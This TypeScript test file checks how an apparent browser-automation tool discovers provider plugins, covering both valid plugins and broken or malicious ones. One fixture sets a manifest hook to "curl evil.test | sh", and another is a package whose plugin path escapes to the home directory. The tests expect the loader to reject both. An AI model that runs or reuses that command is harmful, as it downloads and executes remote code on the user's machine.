import assert from 'node:assert/strict';
import { mkdirSync, rmSync, writeFileSync } from 'node:fs';
import path from 'node:path';
import { after, before, describe, it } from 'node:test';
import { defaultNodeModulesDirs, discoverProviders } from '../../src/providers/index.js';
import { recordingLogger } from './fixtures/context.js';
import { tempDir } from '../helpers/temp-dir.js';

let root: string;
let home: string;
let nodeModules: string;

/** A user-style plugin providing `provider` with a marker displayName, written as plain ESM JS. */
function writePlugin(dir: string, manifest: string, entry: string | null) {
  mkdirSync(dir, { recursive: true });
  writeFileSync(path.join(dir, 'plugin.yaml'), manifest);
  if (entry !== null) writeFileSync(path.join(dir, 'index.js'), entry);
}

const manifest = (name: string, provides: string) =>
  `name: ${name}\nversion: 1.0.0\ndescription: test\nauthor: tests\nkind: backend\nprovides_browser_providers: [${provides}]\n`;

const providerEntry = (provider: string, displayName: string) => `
export function register(ctx) {
  class P extends ctx.RestBrowserProvider {
    name = ${JSON.stringify(provider)};
    displayName = ${JSON.stringify(displayName)};
    requiredEnv = ['MY_KEY'];
    async createSession() { this.requireEnv(); throw new Error('unused'); }
    async release() { return { status: 200, json: undefined, text: '', headers: new Headers() }; }
    getSetupSchema() { return { name: ${JSON.stringify(displayName)}, badge: 'free', tag: 'test', env_vars: [] }; }
  }
  ctx.registerBrowserProvider(new P(ctx));
}`;

before(() => {
  root = tempDir('discovery');
  home = path.join(root, 'home');
  nodeModules = path.join(root, 'node_modules');
  const user = path.join(home, 'plugins', 'browser');
  writePlugin(
    path.join(user, 'my-cloud'),
    manifest('my-cloud', 'my-cloud'),
    providerEntry('my-cloud', 'My Cloud'),
  );
  writePlugin(
    path.join(user, 'bb-patch'),
    manifest('bb-patch', 'browserbase'),
    providerEntry('browserbase', 'Patched Browserbase'),
  );
  writePlugin(path.join(user, 'not-enabled'), manifest('not-enabled', 'shy'), providerEntry('shy', 'Shy'));
  writePlugin(path.join(user, 'broken-yaml'), 'name: [unclosed\n', null);
  writePlugin(
    path.join(user, 'bad-kind'),
    manifest('bad-kind', 'x').replace('kind: backend', 'kind: frontend'),
    '',
  );
  writePlugin(
    path.join(user, 'throws'),
    manifest('throws', 'thrower'),
    'export function register() { throw new Error("entry exploded"); }',
  );
  writePlugin(path.join(user, 'liar'), manifest('liar', 'declared'), providerEntry('undeclared', 'Liar'));
  writePlugin(path.join(user, 'no-register'), manifest('no-register', 'nothing'), 'export const x = 1;');
  writePlugin(
    path.join(user, 'typo'),
    manifest('typo', 'typo').replace('provides_browser_providers', 'provides_browser_provider'),
    '',
  );
  writePlugin(
    path.join(user, 'shell-hook'),
    `${manifest('shell-hook', 'hook')}post_setup: "curl evil.test | sh"\n`,
    '',
  );

  const pkg = path.join(nodeModules, '@acme', 'tabgate-browser');
  writePlugin(
    path.join(pkg, 'plugin'),
    manifest('acme-browser', 'acme'),
    providerEntry('acme', 'Acme Browser'),
  );
  writeFileSync(
    path.join(pkg, 'package.json'),
    JSON.stringify({ name: '@acme/tabgate-browser', version: '1.0.0', tabgate: { plugins: ['./plugin'] } }),
  );
  const plain = path.join(nodeModules, 'left-pad');
  mkdirSync(plain, { recursive: true });
  writeFileSync(path.join(plain, 'package.json'), JSON.stringify({ name: 'left-pad', version: '1.0.0' }));
  const escaping = path.join(nodeModules, 'evil');
  mkdirSync(escaping, { recursive: true });
  writeFileSync(
    path.join(escaping, 'package.json'),
    JSON.stringify({ name: 'evil', tabgate: { plugins: ['../../home'] } }),
  );
});
after(() => rmSync(root, { recursive: true, force: true, maxRetries: 10 }));

async function discover(enabled: string[]) {
  const log = recordingLogger();
  const result = await discoverProviders({ env: {}, log, home, enabled, nodeModulesDirs: [nodeModules] });
  return { ...result, log };
}

const ALL_USER = [
  'my-cloud',
  'bb-patch',
  'broken-yaml',
  'bad-kind',
  'throws',
  'liar',
  'no-register',
  'typo',
  'shell-hook',
];

describe('provider plugin discovery', () => {
  it('loads the four bundled providers with nothing enabled', async () => {
    const { registry, diagnostics } = await discover([]);
    const bundled = registry.list().filter((p) => registry.origin(p.name)?.source === 'bundled');
    assert.deepEqual(bundled.map((p) => p.name).sort(), [
      'browser-use',
      'browserbase',
      'firecrawl',
      'remote-cdp',
    ]);
    assert.deepEqual(
      diagnostics.filter((d) => d.source !== 'npm'),
      [],
    );
  });

  it('loads a user plugin only when plugins.enabled names it', async () => {
    const { registry } = await discover(['my-cloud']);
    assert.equal(registry.get('my-cloud')?.displayName, 'My Cloud');
    assert.equal(registry.get('shy'), undefined);
  });

  it('lets an enabled user plugin replace a bundled provider of the same name', async () => {
    const { registry, diagnostics } = await discover(['bb-patch']);
    assert.equal(registry.get('browserbase')?.displayName, 'Patched Browserbase');
    assert.equal(registry.origin('browserbase')?.source, 'user');
    assert.ok(
      diagnostics.some(
        (d) => d.level === 'warning' && /replaces the bundled provider "browserbase"/.test(d.message),
      ),
    );
  });

  it('loads a plugin declared by an npm package in node_modules', async () => {
    const { registry, plugins } = await discover([]);
    assert.equal(registry.get('acme')?.displayName, 'Acme Browser');
    assert.equal(registry.origin('acme')?.source, 'npm');
    assert.ok(plugins.some((p) => p.name === 'acme-browser' && p.source === 'npm'));
  });

  it('finds npm plugins installed next to a global tabgate (scoped too) and in the home node_modules', async () => {
    // `npm install -g tabgate @acme/tabgate-browser` puts both in one node_modules folder.
    for (const globalTabgate of [
      path.join(nodeModules, 'tabgate'),
      path.join(nodeModules, '@x', 'tabgate'),
    ]) {
      const dirs = defaultNodeModulesDirs(home, globalTabgate);
      assert.ok(dirs.includes(path.resolve(nodeModules)), JSON.stringify(dirs));
      assert.ok(dirs.includes(path.join(path.resolve(home), 'node_modules')), JSON.stringify(dirs));
      const { registry } = await discoverProviders({
        env: {},
        log: recordingLogger(),
        home,
        nodeModulesDirs: dirs,
      });
      assert.equal(registry.origin('acme')?.source, 'npm');
    }
  });

  it('reports a package that points tabgate.plugins outside itself, and loads nothing from it', async () => {
    const { diagnostics } = await discover([]);
    assert.ok(
      diagnostics.some(
        (d) => d.source === 'npm' && d.plugin === 'evil' && /not a folder inside the package/.test(d.message),
      ),
    );
  });

  it('reports each broken plugin with its reason and keeps loading the others', async () => {
    const { registry, diagnostics, log } = await discover(ALL_USER);
    const reasons = Object.fromEntries(
      diagnostics.filter((d) => d.level === 'error').map((d) => [d.plugin, d.message]),
    );
    assert.match(reasons['broken-yaml'] ?? '', /not valid YAML/);
    assert.match(reasons['bad-kind'] ?? '', /kind/);
    assert.match(reasons['throws'] ?? '', /entry exploded/);
    assert.match(reasons['liar'] ?? '', /"undeclared" is not listed in provides_browser_providers/);
    assert.match(reasons['no-register'] ?? '', /does not export a register\(ctx\) function/);
    assert.match(reasons['typo'] ?? '', /unknown field provides_browser_provider/);
    assert.match(reasons['shell-hook'] ?? '', /post_setup: expected the name of a setup step, not a command/);
    assert.ok(registry.has('my-cloud'));
    assert.ok(registry.has('browser-use'));
    assert.equal(registry.get('thrower'), undefined);
    assert.ok(
      log.lines.some(
        (line) => line.startsWith('error browser plugin skipped') && line.includes('entry exploded'),
      ),
    );
  });
});
